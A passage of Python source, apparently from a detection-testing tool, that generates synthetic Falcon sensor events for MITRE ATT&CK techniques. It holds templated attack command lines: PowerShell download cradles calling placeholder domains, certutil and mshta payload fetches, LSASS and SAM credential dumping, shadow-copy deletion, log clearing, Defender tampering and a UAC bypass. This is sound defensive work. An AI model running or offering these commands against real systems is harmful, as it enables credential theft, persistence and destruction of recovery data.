"""Planted MITRE ATT&CK technique instances: the catalogue and its builder.

The seed scenarios (:mod:`.scenarios`) exercise one rule.  Detection rules
for other techniques need something of their own to find, so this module
holds one :class:`Technique` per ATT&CK technique and platform: the events a
Falcon sensor would record when that technique is carried out the way
attackers commonly do it (the tools and command lines are the public,
well-known ones; the domains are ``example`` names and the addresses come
from the callback ranges of :mod:`.values`).

Why the catalogue is data: a reader checking whether a rule should fire
wants to see, per technique, the process tree and the other events at a
glance, not trace code.  Each entry is a short tuple of steps:

* :class:`Proc` -- a process start (``ProcessRollup2``, or
  ``SyntheticProcessRollup2`` for a long-running parent the sensor reports
  for context).  ``parent`` names an earlier step of the same instance (the
  child then carries its ``ParentProcessId`` and ``ParentBaseFileName``,
  and its ``GrandParentBaseFileName`` on Windows) or, when no such step
  exists, the base file name of a parent outside the instance.
* :class:`Connect`, :class:`Dns`, :class:`Write` -- network, DNS and file
  events of a process, linked by ``ContextProcessId``.  Planted network
  events always carry ``ImageFileName`` (the enrichment a LogScale
  deployment adds by joining the process event) so that a rule filtering
  network events on the image, such as a LOLBin-callback rule, can find
  them; raw FDR network events name no image.
* :class:`RegSet`, :class:`TaskRegistered`, :class:`ServiceStart`,
  :class:`AccountCreated`, :class:`Logon` -- the registry, scheduled task,
  service, account and logon events Falcon records beside the process
  that caused them (``RpcClientProcessId`` or ``ContextProcessId``).

Text fields are templates: ``{{name}}`` is replaced per instance from a
small context (the host's user, home and SID, a domain and callback
address, random hex, ...) and from the entry's ``choices``; an option of a
choice may be a mapping when several values must go together.  ``script``
is a payload template whose encodings ``{{script_ps64}}`` (UTF-16LE base64,
as PowerShell's ``-EncodedCommand`` takes it) and ``{{script_b64}}`` (UTF-8
base64) the steps can use.  ``alternatives`` are other process trees for
the same technique (procdump, comsvcs.dll or mimikatz for LSASS dumping).

No technique instance satisfies the seed rule (T1546.016): none has an
installer parent (``msiexec.exe``, ``dpkg``, ``apt``, ``installer``, ...),
so the seed rule's planted chains stay the only events it finds.
"""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .catalogue import START_MS
from .scenarios import _Chain
from .values import _b64_ps, _callback_ip, _hex, _private_ip, _secs

# Indices into a host's ``users`` (see :func:`.hosts.make_hosts`).
USER = 0  # the interactive user
ADMIN = 1  # SYSTEM on Windows, root on Linux and macOS
WEB = 2  # www-data on Linux
NETWORK_SERVICE = 3  # NETWORK SERVICE on Windows

MEDIUM = "8192"
HIGH = "12288"  # an elevated administrator token

_Choice = str | Mapping[str, str]


@dataclass(frozen=True)
class Proc:
    """A process start."""

    key: str
    image: str
    cmd: str
    parent: str
    user: int = USER
    integrity: str = MEDIUM
    simple: str = "ProcessRollup2"


@dataclass(frozen=True)
class Connect:
    """A network connection of process ``proc`` (outbound unless ``simple``
    is ``NetworkReceiveAcceptIP4``); ``remote`` defaults to the instance's
    callback address, the one its :class:`Dns` steps resolve to."""

    proc: str
    port: str = "443"
    remote: str = "{{c2}}"
    simple: str = "NetworkConnectIP4"


@dataclass(frozen=True)
class Dns:
    """A DNS request of process ``proc``, answered with the callback address."""

    proc: str
    domain: str = "{{domain}}"


@dataclass(frozen=True)
class Write:
    """A file written by process ``proc``."""

    proc: str
    path: str
    simple: str = "GenericFileWritten"


@dataclass(frozen=True)
class RegSet:
    """A registry value set by process ``proc``: ``AsepValueUpdate`` for
    autostart locations (Run keys), ``RegGenericValueUpdate`` otherwise."""

    proc: str
    key: str
    value: str
    data: str
    simple: str = "AsepValueUpdate"


@dataclass(frozen=True)
class TaskRegistered:
    """``ScheduledTaskRegistered`` for a task that process ``proc`` created
    through the Task Scheduler's RPC interface."""

    proc: str
    name: str
    command: str
    arguments: str
    trigger: str = "LogonTrigger"


@dataclass(frozen=True)
class ServiceStart:
    """``ServiceStarted`` for the service process ``proc``; ``by`` is the
    process that asked the service control manager, if it is local."""

    proc: str
    name: str
    by: str | None = None


@dataclass(frozen=True)
class AccountCreated:
    """``UserAccountCreated`` for an account that process ``proc`` created."""

    proc: str
    name: str


@dataclass(frozen=True)
class Logon:
    """``UserLogon`` of the interactive user from ``remote``."""

    logon_type: str
    remote: str


Step = (
    Proc | Connect | Dns | Write | RegSet | TaskRegistered | ServiceStart | AccountCreated | Logon
)


@dataclass(frozen=True)
class Technique:
    """One catalogue entry: an ATT&CK technique on one platform."""

    id: str
    name: str
    tactic: str
    platform: str
    scenario: str
    steps: tuple[Step, ...]
    alternatives: tuple[tuple[Step, ...], ...] = ()
    choices: Mapping[str, tuple[_Choice, ...]] = field(default_factory=dict)
    script: str = ""


# -- shared paths and vocabularies --------------------------------------------

_SYS = "C:\\Windows\\System32\\"
POWERSHELL = _SYS + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = _SYS + "cmd.exe"
CERTUTIL = _SYS + "certutil.exe"
RUNDLL32 = _SYS + "rundll32.exe"
REG = _SYS + "reg.exe"
NET = _SYS + "net.exe"
NET1 = _SYS + "net1.exe"
SC = _SYS + "sc.exe"
WMIC = _SYS + "wbem\\WMIC.exe"
SVCHOST = _SYS + "svchost.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"

BASH = "/usr/bin/bash"
DASH = "/usr/bin/dash"
CURL = "/usr/bin/curl"

_DOMAINS = (
    "cdn-updates.example.net",
    "office365-sync.example.com",
    "telemetry-api.example.org",
    "dl.fontcache.example.com",
    "static.msupdate.example.org",
    "paste.cloudmirror.example.net",
)
_PAYLOADS = ("svchost32.exe", "update.exe", "AdobeARMhelper.exe", "msedge_update.exe")
_LIN_BINARIES = (".x/kdevtmpfsi", "kinsing", ".ICE-unix/.sshd", "dbused")
_LIN_EXPLOITED = ("java", "node", "php-fpm8.3", "python3")
_MAC_BINARIES = ("update", ".helper", "GoogleUpdate", "mdworkerd")
_MAC_APPS = ("Flash Player", "TradingView", "CleanMyMac X", "Zoom Installer Helper")
_IMPLANTS = ("rundll32.exe", "dllhost.exe", "{{hex4}}.exe")
_CRADLE = (
    "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; "
    "Win64; x64)');IEX $w.DownloadString('https://{{domain}}/{{path}}')"
)
_BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def _via_cmd(key: str, tool_image: str, line: str, parent: str, **kw: Any) -> tuple[Proc, Proc]:
    """``cmd.exe /c LINE`` and the tool it starts, as an implant's shell
    command produces them."""
    return (
        Proc(key + "_cmd", CMD, f"C:\\Windows\\system32\\cmd.exe /c {line}", parent, **kw),
        Proc(key, tool_image, line, key + "_cmd", **kw),
    )


def _net(key: str, args: str, parent: str, **kw: Any) -> tuple[Proc, Proc]:
    """``net.exe`` and the ``net1.exe`` it hands the work to, as on Windows."""
    return (
        Proc(key, NET, f"net  {args}", parent, **kw),
        Proc(key + "_1", NET1, f"C:\\Windows\\system32\\net1  {args}", key, **kw),
    )


def _office_powershell() -> tuple[Step, ...]:
    return (
        Proc(
            "office",
            OFFICE + "{{app}}",
            f'"{OFFICE}{{{{app}}}}" /n "{{{{home}}}}\\AppData\\Local\\Microsoft\\Windows\\INetCache'
            '\\Content.Outlook\\{{hex8}}\\{{lure}}.{{ext}}" /o ""',
            "OUTLOOK.EXE",
        ),
        Proc("ps", POWERSHELL, "{{ps_cmd}}", "office"),
        Dns("ps"),
        Connect("ps"),
    )


def _authorized_keys(home: str, user: int) -> tuple[Step, ...]:
    keys = f"{home}/.ssh/authorized_keys"
    return (
        Proc(
            "sh",
            BASH,
            f"/bin/bash -c mkdir -p {home}/.ssh && echo ssh-ed25519 {{{{keyblob}}}} {{{{key_comment}}}}"
            f" >> {keys} && chmod 600 {keys}",
            "{{lin_parent}}",
            user,
        ),
        Proc("mkdir", "/usr/bin/mkdir", f"mkdir -p {home}/.ssh", "sh", user),
        Write("sh", keys),
        Proc("chmod", "/usr/bin/chmod", f"chmod 600 {keys}", "sh", user),
    )


def _schtasks(schedule: str, trigger: str) -> tuple[Step, ...]:
    return (
        Proc(
            "st",
            _SYS + "schtasks.exe",
            f'schtasks  /create /sc {schedule} /tn "{{{{task}}}}" /tr "{{{{task_exe}}}} '
            '{{task_args}}" /rl highest /f',
            "cmd.exe",
            integrity=HIGH,
        ),
        TaskRegistered("st", "\\{{task}}", "{{task_exe}}", "{{task_args}}", trigger),
    )


def _service(create: Proc, starter: str, extra: tuple[Step, ...] = ()) -> tuple[Step, ...]:
    return (
        create,
        *extra,
        Proc("svc", "{{svc_bin}}", "{{svc_bin}}", "services.exe", ADMIN),
        ServiceStart("svc", "{{svc_display}}", by=starter),
    )


# -- the catalogue ---------------------------------------------------------------

WINDOWS: tuple[Technique, ...] = (
    Technique(
        "T1059.001",
        "Command and Scripting Interpreter: PowerShell",
        "Execution",
        "Win",
        "office_encoded_powershell",
        _office_powershell(),
        choices={
            "office": (
                {"app": "WINWORD.EXE", "ext": "docm"},
                {"app": "EXCEL.EXE", "ext": "xlsm"},
            ),
            "lure": ("Invoice_{{n}}", "Remittance-Advice-{{n}}", "PO_{{n}}_signed", "Payroll_Q4"),
            "path": ("news.php", "wp-content/uploads/2025/10/logo.png", "a", "api/v2/ping"),
            "ps_cmd": (
                "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {{script_ps64}}",
                '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden '
                "-EncodedCommand {{script_ps64}}",
                "powershell -e {{script_ps64}}",
            ),
        },
        script=_CRADLE,
    ),
    Technique(
        "T1105",
        "Ingress Tool Transfer",
        "Command and Control",
        "Win",
        "certutil_download",
        (
            Proc(
                "cmd",
                CMD,
                "C:\\Windows\\system32\\cmd.exe /c certutil -urlcache -split -f "
                "http://{{domain}}/{{payload}} C:\\Users\\Public\\{{payload}} && "
                "C:\\Users\\Public\\{{payload}}",
                "{{launcher}}",
            ),
            Proc(
                "certutil",
                CERTUTIL,
                "certutil  -urlcache -split -f http://{{domain}}/{{payload}} "
                "C:\\Users\\Public\\{{payload}}",
                "cmd",
            ),
            Dns("certutil"),
            Connect("certutil", "80"),
            Write("certutil", "C:\\Users\\Public\\{{payload}}", "NewExecutableWritten"),
            Proc(
                "payload", "C:\\Users\\Public\\{{payload}}", "C:\\Users\\Public\\{{payload}}", "cmd"
            ),
        ),
        choices={"payload": _PAYLOADS, "launcher": ("WINWORD.EXE", "wscript.exe", "explorer.exe")},
    ),
    Technique(
        "T1197",
        "BITS Jobs",
        "Defense Evasion",
        "Win",
        "bitsadmin_transfer",
        (
            Proc(
                "bits",
                _SYS + "bitsadmin.exe",
                '"C:\\Windows\\system32\\bitsadmin.exe" /transfer {{job}} /download /priority '
                "foreground https://{{domain}}/{{payload}} {{home}}\\AppData\\Local\\Temp\\{{payload}}",
                "cmd.exe",
            ),
            # The BITS service, not bitsadmin, fetches the file.
            Proc(
                "svc",
                SVCHOST,
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS",
                "services.exe",
                ADMIN,
                simple="SyntheticProcessRollup2",
            ),
            Dns("svc"),
            Connect("svc"),
            Write("svc", "{{home}}\\AppData\\Local\\Temp\\{{payload}}", "NewExecutableWritten"),
        ),
        choices={"payload": _PAYLOADS, "job": ("myjob", "update", "WindowsUpdate{{n}}", "dl")},
    ),
    Technique(
        "T1218.011",
        "System Binary Proxy Execution: Rundll32",
        "Defense Evasion",
        "Win",
        "rundll32_callback",
        (
            Proc(
                "r32",
                RUNDLL32,
                '"C:\\Windows\\System32\\rundll32.exe" {{home}}\\AppData\\Local\\Temp\\{{dll}},{{export}}',
                "{{launcher}}",
            ),
            Dns("r32"),
            Connect("r32"),
        ),
        choices={
            "dll": ("d3dx9_43.dll", "msvcp_win32.dll", "{{hex4}}.tmp", "invoice.dat"),
            "export": ("DllRegisterServer", "Start", "#1", "Control_RunDLL"),
            "launcher": ("WINWORD.EXE", "explorer.exe", "wscript.exe", "cmd.exe"),
        },
    ),
    Technique(
        "T1218.010",
        "System Binary Proxy Execution: Regsvr32",
        "Defense Evasion",
        "Win",
        "regsvr32_scriptlet",
        (
            Proc(
                "r",
                _SYS + "regsvr32.exe",
                "regsvr32.exe /s /n /u /i:https://{{domain}}/{{sct}} scrobj.dll",
                "{{launcher}}",
            ),
            Dns("r"),
            Connect("r"),
        ),
        choices={
            "sct": ("file.sct", "a.sct", "images/logo.sct"),
            "launcher": ("cmd.exe", "WINWORD.EXE", "wscript.exe"),
        },
    ),
    Technique(
        "T1218.005",
        "System Binary Proxy Execution: Mshta",
        "Defense Evasion",
        "Win",
        "mshta_remote_hta",
        (
            Proc(
                "mshta",
                _SYS + "mshta.exe",
                '"C:\\Windows\\system32\\mshta.exe" https://{{domain}}/{{hta}}',
                "{{launcher}}",
            ),
            Dns("mshta"),
            Connect("mshta"),
            Proc(
                "ps",
                POWERSHELL,
                "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)"
                ".DownloadString('https://{{domain}}/p')",
                "mshta",
            ),
        ),
        choices={
            "hta": ("update.hta", "doc.hta", "s/{{hex4}}.hta"),
            "launcher": ("explorer.exe", "chrome.exe", "OUTLOOK.EXE"),
        },
    ),
    Technique(
        "T1003.001",
        "OS Credential Dumping: LSASS Memory",
        "Credential Access",
        "Win",
        "lsass_dump",
        (
            Proc(
                "cmd",
                CMD,
                "C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\{{pd}} -accepteula -ma lsass.exe "
                "C:\\ProgramData\\{{dmp}}",
                "explorer.exe",
                integrity=HIGH,
            ),
            Proc(
                "pd",
                "C:\\ProgramData\\{{pd}}",
                "C:\\ProgramData\\{{pd}}  -accepteula -ma lsass.exe C:\\ProgramData\\{{dmp}}",
                "cmd",
                integrity=HIGH,
            ),
            Write("pd", "C:\\ProgramData\\{{dmp}}"),
        ),
        alternatives=(
            (
                Proc(
                    "ps",
                    POWERSHELL,
                    "powershell.exe -nop -c rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
                    "MiniDump (Get-Process lsass).Id C:\\Windows\\Temp\\{{dmp}} full",
                    "cmd.exe",
                    integrity=HIGH,
                ),
                Proc(
                    "r32",
                    RUNDLL32,
                    '"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, '
                    "MiniDump {{pid}} C:\\Windows\\Temp\\{{dmp}} full",
                    "ps",
                    integrity=HIGH,
                ),
                Write("r32", "C:\\Windows\\Temp\\{{dmp}}"),
            ),
            (
                Proc(
                    "mk",
                    "{{home}}\\AppData\\Local\\Temp\\{{mk}}",
                    '{{mk}}  "privilege::debug" "sekurlsa::logonpasswords" "exit"',
                    "cmd.exe",
                    integrity=HIGH,
                ),
            ),
        ),
        choices={
            "pd": ("procdump64.exe", "procdump.exe", "pd64.exe"),
            "dmp": ("lsass.dmp", "debug.dmp", "{{hex4}}.bin", "out.dmp"),
            "mk": ("mimikatz.exe", "m64.exe", "sysdiag.exe"),
        },
    ),
    Technique(
        "T1003.002",
        "OS Credential Dumping: Security Account Manager",
        "Credential Access",
        "Win",
        "sam_hive_save",
        (
            Proc(
                "cmd",
                CMD,
                "C:\\Windows\\system32\\cmd.exe /c reg save HKLM\\SAM C:\\Windows\\Temp\\{{sam}} /y "
                "& reg save HKLM\\SYSTEM C:\\Windows\\Temp\\{{system}} /y",
                "{{implant}}",
                integrity=HIGH,
            ),
            Proc(
                "sam",
                REG,
                "reg  save HKLM\\SAM C:\\Windows\\Temp\\{{sam}} /y",
                "cmd",
                integrity=HIGH,
            ),
            Write("sam", "C:\\Windows\\Temp\\{{sam}}"),
            Proc(
                "system",
                REG,
                "reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\{{system}} /y",
                "cmd",
                integrity=HIGH,
            ),
            Write("system", "C:\\Windows\\Temp\\{{system}}"),
        ),
        choices={
            "implant": _IMPLANTS,
            "hives": (
                {"sam": "sam.save", "system": "system.save"},
                {"sam": "s.hiv", "system": "y.hiv"},
                {"sam": "{{hex4}}.1", "system": "{{hex4}}.2"},
            ),
        },
    ),
    Technique(
        "T1003.003",
        "OS Credential Dumping: NTDS",
        "Credential Access",
        "Win",
        "ntds_ifm",
        (
            Proc(
                "nt",
                _SYS + "ntdsutil.exe",
                'ntdsutil.exe  "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\{{dir}}" q q',
                "cmd.exe",
                integrity=HIGH,
            ),
            Write("nt", "C:\\Windows\\Temp\\{{dir}}\\Active Directory\\ntds.dit"),
            Write("nt", "C:\\Windows\\Temp\\{{dir}}\\registry\\SYSTEM"),
        ),
        choices={"dir": ("ifm", "ntds_{{n}}", "x")},
    ),
    Technique(
        "T1053.005",
        "Scheduled Task/Job: Scheduled Task",
        "Persistence",
        "Win",
        "schtasks_create",
        _schtasks("onlogon", "LogonTrigger"),
        alternatives=(_schtasks("minute /mo 30", "TimeTrigger"),),
        choices={
            "task": (
                "OneDrive Standalone Update Task-{{n}}",
                "GoogleUpdateTaskMachineUA{{hex4}}",
                "MicrosoftEdgeUpdateCore",
                "WindowsDefenderCacheMaintenance",
                "SystemHealthCheck",
            ),
            "action": (
                {
                    "task_exe": POWERSHELL,
                    "task_args": "-w hidden -nop -ep bypass -c IEX(New-Object Net.WebClient)"
                    ".DownloadString('https://{{domain}}/t')",
                },
                {"task_exe": "C:\\Users\\Public\\{{payload}}", "task_args": "/silent"},
                {
                    "task_exe": RUNDLL32,
                    "task_args": "{{home}}\\AppData\\Roaming\\{{hex4}}.dll,Start",
                },
            ),
            "payload": _PAYLOADS,
        },
    ),
    Technique(
        "T1543.003",
        "Create or Modify System Process: Windows Service",
        "Persistence",
        "Win",
        "service_create",
        _service(
            Proc(
                "create",
                SC,
                'sc.exe  create {{svc}} binPath= "{{svc_bin}}" start= auto DisplayName= "{{svc_display}}"',
                "cmd.exe",
                integrity=HIGH,
            ),
            "start",
            (Proc("start", SC, "sc.exe  start {{svc}}", "cmd.exe", integrity=HIGH),),
        ),
        alternatives=(
            _service(
                Proc(
                    "ps",
                    POWERSHELL,
                    "powershell.exe -nop -c New-Service -Name '{{svc}}' -BinaryPathName '{{svc_bin}}' "
                    "-DisplayName '{{svc_display}}' -StartupType Automatic; Start-Service '{{svc}}'",
                    "cmd.exe",
                    integrity=HIGH,
                ),
                "ps",
            ),
        ),
        choices={
            "svc": ("WinDefendHelper", "MSUpdateSvc", "PrintNotifyHost", "svc{{hex4}}"),
            "svc_bin": (
                "C:\\Windows\\Temp\\{{hex4}}.exe",
                "C:\\ProgramData\\Microsoft\\Crypto\\svchelper.exe",
                "C:\\Users\\Public\\Libraries\\winupd.exe",
            ),
            "svc_display": (
                "Windows Defender Helper Service",
                "Microsoft Update Service",
                "Print Notify Host",
            ),
        },
    ),
    Technique(
        "T1569.002",
        "System Services: Service Execution",
        "Execution",
        "Win",
        "psexec_service",
        (
            Logon("3", "{{lan}}"),
            Proc(
                "psexesvc",
                "C:\\Windows\\PSEXESVC.exe",
                "C:\\Windows\\PSEXESVC.exe",
                "services.exe",
                ADMIN,
            ),
            ServiceStart("psexesvc", "PSEXESVC"),
            Proc("cmd", CMD, '"cmd" /c {{remote_cmd}}', "psexesvc", ADMIN),
        ),
        choices={
            "remote_cmd": (
                "ipconfig /all",
                "net localgroup administrators",
                "powershell -ep bypass -f C:\\Windows\\Temp\\{{hex4}}.ps1",
            )
        },
    ),
    Technique(
        "T1547.001",
        "Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder",
        "Persistence",
        "Win",
        "run_key",
        (
            Proc(
                "reg",
                REG,
                'reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "{{run_name}}" '
                '/t REG_SZ /d "{{run_data}}" /f',
                "cmd.exe",
            ),
            RegSet(
                "reg",
                "\\REGISTRY\\USER\\{{sid}}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "{{run_name}}",
                "{{run_data}}",
            ),
        ),
        alternatives=(
            (
                Proc(
                    "ps",
                    POWERSHELL,
                    "powershell.exe -nop -w hidden -c Set-ItemProperty -Path "
                    "'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '{{run_name}}' "
                    "-Value '{{run_data}}'",
                    "{{implant}}",
                ),
                RegSet(
                    "ps",
                    "\\REGISTRY\\USER\\{{sid}}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                    "{{run_name}}",
                    "{{run_data}}",
                ),
            ),
        ),
        choices={
            "run_name": ("OneDriveUpdate", "SecurityHealth32", "Adobe Updater", "{{hex4}}"),
            "run_data": (
                "{{home}}\\AppData\\Roaming\\Microsoft\\{{payload}}",
                "C:\\Windows\\System32\\rundll32.exe {{home}}\\AppData\\Local\\{{hex4}}.dll,Start",
            ),
            "payload": _PAYLOADS,
            "implant": _IMPLANTS,
        },
    ),
    Technique(
        "T1047",
        "Windows Management Instrumentation",
        "Execution",
        "Win",
        "wmi_process_create",
        (
            Proc(
                "wmic",
                WMIC,
                'wmic  process call create "powershell.exe -nop -w hidden -enc {{script_ps64}}"',
                "cmd.exe",
            ),
            Proc(
                "prv",
                _SYS + "wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                "svchost.exe",
                NETWORK_SERVICE,
                simple="SyntheticProcessRollup2",
            ),
            Proc("child", POWERSHELL, "powershell.exe -nop -w hidden -enc {{script_ps64}}", "prv"),
            Dns("child"),
            Connect("child"),
        ),
        alternatives=(
            (
                Proc(
                    "ps",
                    POWERSHELL,
                    "powershell.exe -nop -c Invoke-WmiMethod -Class Win32_Process -Name Create "
                    "-ArgumentList 'cmd.exe /c {{wmi_cmd}}'",
                    "{{implant}}",
                ),
                Proc(
                    "prv",
                    _SYS + "wbem\\WmiPrvSE.exe",
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                    "svchost.exe",
                    NETWORK_SERVICE,
                    simple="SyntheticProcessRollup2",
                ),
                Proc("child", CMD, "cmd.exe /c {{wmi_cmd}}", "prv"),
            ),
        ),
        choices={
            "path": ("w", "wmi.txt"),
            "wmi_cmd": ("C:\\Users\\Public\\{{payload}}", "whoami > C:\\Windows\\Temp\\o.txt"),
            "payload": _PAYLOADS,
            "implant": _IMPLANTS,
        },
        script=_CRADLE,
    ),
    Technique(
        "T1490",
        "Inhibit System Recovery",
        "Impact",
        "Win",
        "delete_shadow_copies",
        (
            Proc(
                "cmd",
                CMD,
                "C:\\Windows\\system32\\cmd.exe /c vssadmin.exe delete shadows /all /quiet & "
                "wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no",
                "{{ransom}}",
                integrity=HIGH,
            ),
            Proc(
                "vss",
                _SYS + "vssadmin.exe",
                "vssadmin.exe  delete shadows /all /quiet",
                "cmd",
                integrity=HIGH,
            ),
            Proc("wmic", WMIC, "wmic  shadowcopy delete", "cmd", integrity=HIGH),
            Proc(
                "bcd",
                _SYS + "bcdedit.exe",
                "bcdedit  /set {default} recoveryenabled no",
                "cmd",
                integrity=HIGH,
            ),
        ),
        choices={"ransom": ("{{hex4}}.exe", "locker.exe", "svhost.exe")},
    ),
    Technique(
        "T1070.001",
        "Indicator Removal: Clear Windows Event Logs",
        "Defense Evasion",
        "Win",
        "wevtutil_clear",
        (
            Proc(
                "cmd",
                CMD,
                "C:\\Windows\\system32\\cmd.exe /c wevtutil cl Security & wevtutil cl System & "
                "wevtutil cl Application",
                "{{implant}}",
                integrity=HIGH,
            ),
            Proc("sec", _SYS + "wevtutil.exe", "wevtutil  cl Security", "cmd", integrity=HIGH),
            Proc("sys", _SYS + "wevtutil.exe", "wevtutil  cl System", "cmd", integrity=HIGH),
            Proc("app", _SYS + "wevtutil.exe", "wevtutil  cl Application", "cmd", integrity=HIGH),
        ),
        choices={"implant": _IMPLANTS},
    ),
    Technique(
        "T1136.001",
        "Create Account: Local Account",
        "Persistence",
        "Win",
        "net_user_add",
        (
            *_net("add", "user {{acct}} {{pw}} /add", "cmd.exe", integrity=HIGH),
            AccountCreated("add_1", "{{acct}}"),
            *_net("admins", "localgroup administrators {{acct}} /add", "cmd.exe", integrity=HIGH),
        ),
        choices={
            "acct": ("support_388945a0", "helpdesk", "svc_backup2", "adm1n"),
            "pw": ("P@ssw0rd123!", "Welcome2025!", "Zxcvbn!2025"),
        },
    ),
    Technique(
        "T1033",
        "System Owner/User Discovery",
        "Discovery",
        "Win",
        "whoami_burst",
        (
            *_via_cmd("who_all", _SYS + "whoami.exe", "whoami /all", "{{implant}}"),
            *_via_cmd("who_priv", _SYS + "whoami.exe", "whoami /priv", "{{implant}}"),
            *_via_cmd("quser", _SYS + "quser.exe", "quser", "{{implant}}"),
        ),
        choices={"implant": _IMPLANTS},
    ),
    Technique(
        "T1069.002",
        "Permission Groups Discovery: Domain Groups",
        "Discovery",
        "Win",
        "net_group_domain",
        (
            *_net("da", 'group "Domain Admins" /domain', "{{implant}}"),
            *_net("ea", 'group "Enterprise Admins" /domain', "{{implant}}"),
        ),
        choices={"implant": _IMPLANTS},
    ),
    Technique(
        "T1087.002",
        "Account Discovery: Domain Account",
        "Discovery",
        "Win",
        "net_user_domain",
        (
            *_net("users", "user /domain", "{{implant}}"),
            *_net("me", "user {{user}} /domain", "{{implant}}"),
        ),
        choices={"implant": _IMPLANTS},
    ),
    Technique(
        "T1482",
        "Domain Trust Discovery",
        "Discovery",
        "Win",
        "nltest_trusts",
        (
            Proc(
                "trusts", _SYS + "nltest.exe", "nltest  /domain_trusts /all_trusts", "{{implant}}"
            ),
            Proc("dcs", _SYS + "nltest.exe", "nltest  /dclist:{{ad_domain}}", "{{implant}}"),
        ),
        choices={"implant": _IMPLANTS, "ad_domain": ("corp", "corp.local", "CORP")},
    ),
    Technique(
        "T1016",
        "System Network Configuration Discovery",
        "Discovery",
        "Win",
        "network_config_burst",
        (
            Proc(
                "cmd",
                CMD,
                "C:\\Windows\\system32\\cmd.exe /c ipconfig /all & route print & arp -a",
                "{{implant}}",
            ),
            Proc("ipconfig", _SYS + "ipconfig.exe", "ipconfig  /all", "cmd"),
            Proc("route", _SYS + "ROUTE.EXE", "route  print", "cmd"),
            Proc("arp", _SYS + "ARP.EXE", "arp  -a", "cmd"),
        ),
        choices={"implant": _IMPLANTS},
    ),
    Technique(
        "T1140",
        "Deobfuscate/Decode Files or Information",
        "Defense Evasion",
        "Win",
        "certutil_decode",
        (
            Proc(
                "cu",
                CERTUTIL,
                "certutil  -decode C:\\Users\\Public\\{{encoded}} C:\\Users\\Public\\{{payload}}",
                "cmd.exe",
            ),
            Write("cu", "C:\\Users\\Public\\{{payload}}", "NewExecutableWritten"),
        ),
        choices={"encoded": ("enc.txt", "cert.pem", "{{hex4}}.b64"), "payload": _PAYLOADS},
    ),
    Technique(
        "T1562.001",
        "Impair Defenses: Disable or Modify Tools",
        "Defense Evasion",
        "Win",
        "defender_tamper",
        (
            Proc(
                "ps",
                POWERSHELL,
                "powershell.exe -nop -c {{mp_change}}",
                "cmd.exe",
                integrity=HIGH,
            ),
        ),
        choices={
            "mp_change": (
                "Set-MpPreference -DisableRealtimeMonitoring $true",
                "Set-MpPreference -DisableIOAVProtection $true -DisableBehaviorMonitoring $true",
                "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\{{hex4}}'",
                "Add-MpPreference -ExclusionProcess 'rundll32.exe'",
            )
        },
    ),
    Technique(
        "T1548.002",
        "Abuse Elevation Control Mechanism: Bypass User Account Control",
        "Privilege Escalation",
        "Win",
        "fodhelper_uac_bypass",
        (
            Proc(
                "reg1",
                REG,
                'reg  add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "{{elevated}}" /f',
                "cmd.exe",
            ),
            RegSet(
                "reg1",
                "\\REGISTRY\\USER\\{{sid}}_Classes\\ms-settings\\Shell\\Open\\command",
                "",
                "{{elevated}}",
                "RegGenericValueUpdate",
            ),
            Proc(
                "reg2",
                REG,
                "reg  add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute "
                "/t REG_SZ /f",
                "cmd.exe",
            ),
            RegSet(
                "reg2",
                "\\REGISTRY\\USER\\{{sid}}_Classes\\ms-settings\\Shell\\Open\\command",
                "DelegateExecute",
                "",
                "RegGenericValueUpdate",
            ),
            Proc("fod", _SYS + "fodhelper.exe", "fodhelper.exe", "cmd.exe", integrity=HIGH),
            Proc("elevated", "{{elevated_image}}", "{{elevated}}", "fod", integrity=HIGH),
        ),
        choices={
            "payload": _PAYLOADS,
            "target": (
                {
                    "elevated_image": CMD,
                    "elevated": "C:\\Windows\\System32\\cmd.exe /c start C:\\Users\\Public\\{{payload}}",
                },
                {
                    "elevated_image": POWERSHELL,
                    "elevated": "powershell.exe -w hidden -nop -enc {{script_ps64}}",
                },
            ),
            "path": ("u",),
        },
        script=_CRADLE,
    ),
    Technique(
        "T1021.001",
        "Remote Services: Remote Desktop Protocol",
        "Lateral Movement",
        "Win",
        "rdp_lateral_logon",
        (
            Proc(
                "term",
                SVCHOST,
                "C:\\Windows\\System32\\svchost.exe -k NetworkService -s TermService",
                "services.exe",
                NETWORK_SERVICE,
                simple="SyntheticProcessRollup2",
            ),
            Connect("term", "3389", "{{lan}}", "NetworkReceiveAcceptIP4"),
            Logon("10", "{{lan}}"),
            Proc("rdpclip", _SYS + "rdpclip.exe", "rdpclip", "svchost.exe"),
        ),
    ),
    Technique(
        "T1036.007",
        "Masquerading: Double File Extension",
        "Defense Evasion",
        "Win",
        "double_extension_lure",
        (
            Proc(
                "lure",
                "{{home}}\\Downloads\\{{lure}}",
                '"{{home}}\\Downloads\\{{lure}}" ',
                "explorer.exe",
            ),
            Dns("lure"),
            Connect("lure"),
        ),
        choices={
